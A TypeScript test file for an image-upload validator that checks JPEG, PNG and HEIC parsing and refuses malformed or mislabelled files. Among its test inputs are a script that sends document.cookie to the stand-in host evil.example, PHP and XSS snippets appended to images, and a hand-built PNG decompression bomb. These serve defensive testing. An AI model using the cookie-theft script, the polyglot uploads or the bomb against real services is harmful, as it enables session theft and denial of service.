import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { ImageInputError, type ImageInputErrorCode } from './image-input.error';
import { inspectImage, sniffImageType } from './image-inspector';

const LIMITS = { maxPixels: 40_000_000 };

function refusal(run: () => unknown): ImageInputError {
  try {
    run();
  } catch (error) {
    if (!(error instanceof ImageInputError)) throw error;
    return error;
  }
  throw new Error('expected a refusal');
}

function expectRefused(code: ImageInputErrorCode, bytes: Buffer, type: string, limits = LIMITS): ImageInputError {
  const error = refusal(() => inspectImage(bytes, type, limits));
  expect(error.code).toBe(code);
  expect(error.status).toBe(422);
  return error;
}

/** A noisy RGB image, so encoders produce realistic entropy-coded data. */
function noise(width: number, height: number, channels: 3 | 4 = 3): ReturnType<typeof sharp> {
  const data = Buffer.alloc(width * height * channels);
  let seed = width * 7919 + height;
  for (let i = 0; i < data.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    data[i] = seed >> 16;
  }
  return sharp(data, { raw: { width, height, channels } });
}

// ---------------------------------------------------------------------------------------------
// Byte builders: PNG chunks and ISO-BMFF boxes, written by hand so malformed variants can be made.

function pngChunk(type: string, data: Buffer, badCrc = false): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE((crc32(Buffer.concat([head.subarray(4), data])) ^ (badCrc ? 1 : 0)) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

function pngWithHeader(width: number, height: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const u8 = (value: number): Buffer => Buffer.from([value]);
const u16 = (value: number): Buffer => {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(value);
  return b;
};
const u32 = (value: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(value);
  return b;
};
const cc = (text: string): Buffer => Buffer.from(text, 'latin1');

function box(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  return Buffer.concat([u32(8 + body.length), cc(type), body]);
}

function fullBox(type: string, version: number, flags: number, ...payload: Buffer[]): Buffer {
  return box(type, u32(((version << 24) | flags) >>> 0), ...payload);
}

interface HeicSpec {
  major?: string;
  compatible?: string[];
  /** ispe sizes in ipco order. */
  sizes?: Array<[number, number]>;
  /** 1-based ipco indices associated with the primary item (item 1). */
  primaryProperties?: number[];
  pitm?: boolean;
  irot?: number;
  handler?: string;
  mdatLength?: number;
}

/**
 * A minimal HEIC as an encoder writes it: ftyp, meta (hdlr pict, pitm, iinf with one hvc1 item,
 * iloc pointing into mdat, iprp with ipco [hvcC, ispe…, irot?] and ipma), then mdat. The coded
 * data is filler: the inspector never decodes it.
 */
function buildHeic(spec: HeicSpec = {}): Buffer {
  const sizes = spec.sizes ?? [[640, 480]];
  const mdatLength = spec.mdatLength ?? 96;
  const properties: Buffer[] = [box('hvcC', Buffer.alloc(23))];
  for (const [w, h] of sizes) properties.push(fullBox('ispe', 0, 0, u32(w), u32(h)));
  if (spec.irot !== undefined) properties.push(box('irot', u8(spec.irot)));
  const primary = spec.primaryProperties ?? [1, 2, ...(spec.irot !== undefined ? [properties.length] : [])];

  const meta = (dataOffset: number): Buffer =>
    fullBox(
      'meta',
      0,
      0,
      fullBox('hdlr', 0, 0, u32(0), cc(spec.handler ?? 'pict'), Buffer.alloc(12), Buffer.from([0])),
      ...(spec.pitm === false ? [] : [fullBox('pitm', 0, 0, u16(1))]),
      fullBox('iinf', 0, 0, u16(1), fullBox('infe', 2, 0, u16(1), u16(0), cc('hvc1'), Buffer.from([0]))),
      fullBox('iloc', 0, 0, u16(0x4400), u16(1), u16(1), u16(0), u16(1), u32(dataOffset), u32(mdatLength)),
      box(
        'iprp',
        box('ipco', ...properties),
        fullBox('ipma', 0, 0, u32(1), u16(1), u8(primary.length), ...primary.map((index) => u8(0x80 | index))),
      ),
    );

  const ftyp = box('ftyp', cc(spec.major ?? 'heic'), u32(0), ...(spec.compatible ?? ['mif1', 'heic']).map(cc));
  const offset = ftyp.length + meta(0).length + 8;
  const mdat = box('mdat', Buffer.alloc(mdatLength, 0x5a));
  return Buffer.concat([ftyp, meta(offset), mdat]);
}

// ---------------------------------------------------------------------------------------------

let jpeg: Buffer;
let progressiveJpeg: Buffer;
let rotatedJpeg: Buffer;
let png: Buffer;
let rotatedPng: Buffer;
let avif: Buffer;

beforeAll(async () => {
  jpeg = await noise(320, 240).jpeg({ quality: 85 }).toBuffer();
  progressiveJpeg = await noise(200, 150).jpeg({ progressive: true }).toBuffer();
  rotatedJpeg = await noise(120, 80).jpeg().withMetadata({ orientation: 6 }).toBuffer();
  png = await noise(320, 240).png().toBuffer();
  rotatedPng = await noise(120, 80).png().withMetadata({ orientation: 8 }).toBuffer();
  avif = await noise(48, 32).heif({ compression: 'av1' }).toBuffer();
});

describe('inspectImage: JPEG', () => {
  it('reads the size from the frame header of real encoder output', async () => {
    expect(inspectImage(jpeg, 'image/jpeg', LIMITS)).toEqual({
      contentType: 'image/jpeg',
      width: 320,
      height: 240,
      codedWidth: 320,
      codedHeight: 240,
    });
    expect(inspectImage(progressiveJpeg, 'image/jpeg', LIMITS)).toMatchObject({ width: 200, height: 150 });
    const grey = await noise(33, 17).greyscale().jpeg().toBuffer();
    expect(inspectImage(grey, 'image/jpeg', LIMITS)).toMatchObject({ width: 33, height: 17 });
  });

  it('reports the displayed size when EXIF turns the image by 90°, like sharp does', async () => {
    const result = inspectImage(rotatedJpeg, 'image/jpeg', LIMITS);
    expect(result).toMatchObject({ width: 80, height: 120, codedWidth: 120, codedHeight: 80 });
    const meta = await sharp(rotatedJpeg).metadata();
    expect(meta.autoOrient).toEqual({ width: result.width, height: result.height });
  });

  it('accepts the declared type case-insensitively and answers the canonical form', () => {
    expect(inspectImage(jpeg, ' IMAGE/JPEG ', LIMITS).contentType).toBe('image/jpeg');
  });

  it('refuses a JPEG cut in half, without its EOI, or with data after the EOI', () => {
    expectRefused('IMAGE_UNREADABLE', jpeg.subarray(0, jpeg.length >> 1), 'image/jpeg');
    expectRefused('IMAGE_UNREADABLE', jpeg.subarray(0, jpeg.length - 2), 'image/jpeg');
    expectRefused('IMAGE_UNREADABLE', jpeg.subarray(0, 3), 'image/jpeg');
    expectRefused('IMAGE_UNREADABLE', Buffer.concat([jpeg, Buffer.from('<?php echo 1; ?>')]), 'image/jpeg');
  });

  it('accepts a second embedded JPEG after the first (multi-picture files end with EOI)', () => {
    expect(inspectImage(Buffer.concat([jpeg, progressiveJpeg]), 'image/jpeg', LIMITS)).toMatchObject({ width: 320 });
  });

  it('refuses a segment whose length runs past the end of the file', () => {
    const broken = Buffer.from(jpeg);
    broken.writeUInt16BE(0xfff0, 4); // the APP0 length right after SOI
    expectRefused('IMAGE_UNREADABLE', broken, 'image/jpeg');
  });

  it('refuses sizes above the limits, and zero, from the frame header alone', () => {
    const sofAt = findSof(jpeg);
    const patched = (width: number, height: number): Buffer => {
      const copy = Buffer.from(jpeg);
      copy.writeUInt16BE(height, sofAt + 5);
      copy.writeUInt16BE(width, sofAt + 7);
      return copy;
    };
    expectRefused('IMAGE_DIMENSIONS_REFUSED', patched(65_000, 65_000), 'image/jpeg');
    expectRefused('IMAGE_DIMENSIONS_REFUSED', patched(20_001, 10), 'image/jpeg');
    expectRefused('IMAGE_DIMENSIONS_REFUSED', patched(320, 0), 'image/jpeg');
    expectRefused('IMAGE_DIMENSIONS_REFUSED', jpeg, 'image/jpeg', { maxPixels: 320 * 240 - 1 });
    expect(inspectImage(jpeg, 'image/jpeg', { maxPixels: 320 * 240 }).width).toBe(320);
    expect(inspectImage(patched(20_000, 1), 'image/jpeg', LIMITS).width).toBe(20_000);
  });
});

describe('inspectImage: PNG', () => {
  it('reads IHDR of real PNGs of several sizes and kinds', async () => {
    for (const [w, h] of [
      [1, 1],
      [17, 9],
      [640, 480],
      [3, 1000],
    ]) {
      const bytes = await noise(w, h).png().toBuffer();
      expect(inspectImage(bytes, 'image/png', LIMITS)).toMatchObject({ contentType: 'image/png', width: w, height: h });
    }
    const alpha = await noise(50, 40, 4).png().toBuffer();
    const sixteen = await noise(30, 20).toColourspace('rgb16').png().toBuffer();
    const palette = await noise(30, 20).png({ palette: true }).toBuffer();
    const interlaced = await noise(30, 20).png({ progressive: true }).toBuffer();
    for (const bytes of [alpha, sixteen, palette, interlaced]) {
      expect(inspectImage(bytes, 'image/png', LIMITS)).toMatchObject({ width: bytes === alpha ? 50 : 30 });
    }
  });

  it('honours the eXIf orientation like sharp does', async () => {
    const result = inspectImage(rotatedPng, 'image/png', LIMITS);
    expect(result).toMatchObject({ width: 80, height: 120, codedWidth: 120, codedHeight: 80 });
    expect((await sharp(rotatedPng).metadata()).autoOrient).toEqual({ width: 80, height: 120 });
  });

  it('refuses a PNG with a bad IHDR CRC', () => {
    const broken = Buffer.from(png);
    broken[8 + 8 + 13] ^= 0xff; // first byte of IHDR's CRC
    expect(expectRefused('IMAGE_UNREADABLE', broken, 'image/png').message).toMatch(/CRC/);
    expectRefused('IMAGE_UNREADABLE', pngWithHeaderBadCrc(), 'image/png');
  });

  it('refuses a PNG cut in half, one without IEND, one with a corrupted IDAT, and trailing data', () => {
    expectRefused('IMAGE_UNREADABLE', png.subarray(0, png.length >> 1), 'image/png');
    expectRefused('IMAGE_UNREADABLE', png.subarray(0, png.length - 12), 'image/png');
    expectRefused('IMAGE_UNREADABLE', png.subarray(0, 8), 'image/png');
    const corrupted = Buffer.from(png);
    corrupted[png.length - 30] ^= 0x01;
    expectRefused('IMAGE_UNREADABLE', corrupted, 'image/png');
    expectRefused('IMAGE_UNREADABLE', Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]), 'image/png');
  });

  it('refuses a 100,000 × 100,000 PNG bomb of a few hundred bytes before anything inflates it', () => {
    // A real deflate stream of zero rows: it would inflate to ~30 GB.
    const bomb = pngWithHeader(100_000, 100_000, deflateSync(Buffer.alloc(64 * 1024), { level: 9 }));
    expect(bomb.length).toBeLessThan(1000);
    expect(expectRefused('IMAGE_DIMENSIONS_REFUSED', bomb, 'image/png').message).toMatch(/100000×100000/);
    // Sides within 20,000 but too many pixels in total.
    expectRefused('IMAGE_DIMENSIONS_REFUSED', pngWithHeader(20_000, 20_000, deflateSync(Buffer.alloc(10))), 'image/png');
    expectRefused('IMAGE_DIMENSIONS_REFUSED', pngWithHeader(0, 10, deflateSync(Buffer.alloc(10))), 'image/png');
    // Only the header is needed to refuse it: even a bomb without the rest is refused for its size.
    expectRefused('IMAGE_DIMENSIONS_REFUSED', bomb.subarray(0, 33), 'image/png');
  });

  it('accepts a hand-built PNG within the limits (the builder itself is sound)', () => {
    expect(inspectImage(pngWithHeader(2, 2, deflateSync(Buffer.alloc(14))), 'image/png', LIMITS)).toMatchObject({ width: 2 });
  });
});

function pngWithHeaderBadCrc(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr, true),
    pngChunk('IDAT', deflateSync(Buffer.alloc(14))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function findSof(bytes: Buffer): number {
  for (let i = 2; i + 1 < bytes.length; i++) {
    if (bytes[i] === 0xff && (bytes[i + 1] === 0xc0 || bytes[i + 1] === 0xc2)) return i;
  }
  throw new Error('no SOF');
}

describe('inspectImage: HEIC', () => {
  it('reads the primary item’s ispe from a minimal ISO-BMFF HEIC', () => {
    expect(inspectImage(buildHeic(), 'image/heic', LIMITS)).toEqual({
      contentType: 'image/heic',
      width: 640,
      height: 480,
      codedWidth: 640,
      codedHeight: 480,
    });
  });

  it('chooses the primary item’s size over a larger one, and the largest without pitm', () => {
    const sizes: Array<[number, number]> = [
      [4000, 3000],
      [320, 240],
    ];
    expect(inspectImage(buildHeic({ sizes, primaryProperties: [1, 3] }), 'image/heic', LIMITS)).toMatchObject({ width: 320, height: 240 });
    expect(inspectImage(buildHeic({ sizes, primaryProperties: [1, 3], pitm: false }), 'image/heic', LIMITS)).toMatchObject({
      width: 4000,
      height: 3000,
    });
  });

  it('swaps the displayed axes for an irot of 90° or 270°, not 180°', () => {
    expect(inspectImage(buildHeic({ irot: 1 }), 'image/heic', LIMITS)).toMatchObject({ width: 480, height: 640 });
    expect(inspectImage(buildHeic({ irot: 3 }), 'image/heic', LIMITS)).toMatchObject({ width: 480, height: 640 });
    expect(inspectImage(buildHeic({ irot: 2 }), 'image/heic', LIMITS)).toMatchObject({ width: 640, height: 480 });
  });

  it('accepts the HEIF brands and refuses an AVIF declared as HEIC', () => {
    for (const major of ['heic', 'heix', 'heim', 'heis', 'hevc', 'hevx', 'mif1', 'msf1']) {
      expect(inspectImage(buildHeic({ major, compatible: ['mif1'] }), 'image/heic', LIMITS).width).toBe(640);
    }
    expect(inspectImage(buildHeic({ major: 'isom', compatible: ['mif1', 'heic'] }), 'image/heic', LIMITS).width).toBe(640);
    expectRefused('CONTENT_TYPE_MISMATCH', buildHeic({ major: 'avif', compatible: ['mif1', 'miaf'] }), 'image/heic');
    expectRefused('CONTENT_TYPE_MISMATCH', buildHeic({ major: 'isom', compatible: ['mp41'] }), 'image/heic');
    expectRefused('CONTENT_TYPE_MISMATCH', avif, 'image/heic');
  });

  it('parses a real encoder’s HEIF container (sharp AV1 output with a mif1 major brand)', () => {
    const heif = Buffer.from(avif);
    heif.write('mif1', 8, 'latin1');
    expect(inspectImage(heif, 'image/heic', LIMITS)).toMatchObject({ width: 48, height: 32 });
  });

  it('refuses truncated and inconsistent containers', () => {
    const good = buildHeic();
    expectRefused('IMAGE_UNREADABLE', good.subarray(0, good.length >> 1), 'image/heic');
    expectRefused('IMAGE_UNREADABLE', good.subarray(0, good.length - 10), 'image/heic');
    // mdat cut away entirely: the boxes still line up, but iloc points past the end.
    const mdatAt = good.lastIndexOf('mdat') - 4;
    expectRefused('IMAGE_UNREADABLE', good.subarray(0, mdatAt), 'image/heic');
    // A box claiming more bytes than its parent has.
    const oversized = Buffer.from(good);
    oversized.writeUInt32BE(0xffff, good.indexOf('ipco') - 4);
    expectRefused('IMAGE_UNREADABLE', oversized, 'image/heic');
    // A box smaller than its own header (would loop forever in a naive walker).
    const tiny = Buffer.from(good);
    tiny.writeUInt32BE(3, good.indexOf('hdlr') - 4);
    expectRefused('IMAGE_UNREADABLE', tiny, 'image/heic');
    // Not a picture, no size, an association pointing outside ipco.
    expectRefused('IMAGE_UNREADABLE', buildHeic({ handler: 'vide' }), 'image/heic');
    expectRefused('IMAGE_UNREADABLE', buildHeic({ sizes: [] , primaryProperties: [1] }), 'image/heic');
    expectRefused('IMAGE_UNREADABLE', buildHeic({ primaryProperties: [1, 9] }), 'image/heic');
    expectRefused('IMAGE_UNREADABLE', good.subarray(0, 14), 'image/heic');
  });

  it('refuses a HEIC bomb from its ispe', () => {
    expectRefused('IMAGE_DIMENSIONS_REFUSED', buildHeic({ sizes: [[100_000, 100_000]] }), 'image/heic');
    expectRefused('IMAGE_DIMENSIONS_REFUSED', buildHeic({ sizes: [[0, 480]] }), 'image/heic');
  });
});

describe('inspectImage: declared type against the bytes', () => {
  it('refuses a JPEG declared as PNG and a PNG declared as JPEG or HEIC', () => {
    expect(expectRefused('CONTENT_TYPE_MISMATCH', jpeg, 'image/png').message).toBe('the bytes are image/jpeg, not the declared image/png');
    expectRefused('CONTENT_TYPE_MISMATCH', png, 'image/jpeg');
    expectRefused('CONTENT_TYPE_MISMATCH', png, 'image/heic');
    expectRefused('CONTENT_TYPE_MISMATCH', buildHeic(), 'image/jpeg');
  });

  it('refuses scripts, random bytes and empty input', () => {
    const script = Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>');
    for (const type of ['image/jpeg', 'image/png', 'image/heic']) {
      const error = expectRefused('CONTENT_TYPE_MISMATCH', script, type);
      expect(error.message).not.toContain('script');
      expectRefused('CONTENT_TYPE_MISMATCH', Buffer.alloc(0), type);
      expectRefused('CONTENT_TYPE_MISMATCH', Buffer.from([0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0, 1, 0]), type);
    }
    let seed = 42;
    const random = Buffer.from(
      Buffer.alloc(4096).map(() => {
        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
        return seed >> 16;
      }),
    );
    expectRefused('CONTENT_TYPE_MISMATCH', random, 'image/jpeg');
  });

  it('refuses types it does not support, whatever the bytes', () => {
    for (const type of ['image/gif', 'image/webp', 'image/jpg', 'image/heif', 'text/html', 'image/jpeg; charset=utf-8', '']) {
      expectRefused('UNSUPPORTED_CONTENT_TYPE', jpeg, type);
    }
  });

  it('sniffs the signatures', () => {
    expect(sniffImageType(jpeg)).toBe('image/jpeg');
    expect(sniffImageType(png)).toBe('image/png');
    expect(sniffImageType(buildHeic())).toBe('image/heic');
    expect(sniffImageType(Buffer.from('GIF89a'))).toBeUndefined();
  });
});

describe('inspectImage: robustness', () => {
  it('answers every damaged variant with an ImageInputError (never a crash, never a hang)', () => {
    let seed = 7;
    const next = (limit: number): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % limit;
    };
    const samples: Array<[Buffer, string]> = [
      [jpeg, 'image/jpeg'],
      [png, 'image/png'],
      [buildHeic({ irot: 1, sizes: [[640, 480], [64, 48]] }), 'image/heic'],
    ];
    let refused = 0;
    for (const [original, type] of samples) {
      for (let round = 0; round < 1500; round++) {
        const mutated = Buffer.from(original.subarray(0, round % 3 === 0 ? next(original.length) + 1 : original.length));
        const flips = 1 + next(6);
        for (let f = 0; f < flips; f++) mutated[next(Math.min(mutated.length, 600))] = next(256);
        try {
          const result = inspectImage(mutated, type, LIMITS);
          expect(result.width).toBeGreaterThan(0);
          expect(result.width * result.height).toBeLessThanOrEqual(LIMITS.maxPixels);
        } catch (error) {
          expect(error).toBeInstanceOf(ImageInputError);
          refused++;
        }
      }
    }
    expect(refused).toBeGreaterThan(0);
  });

  it('rejects nonsensical limits', () => {
    expect(() => inspectImage(png, 'image/png', { maxPixels: 0 })).toThrow(RangeError);
  });
});
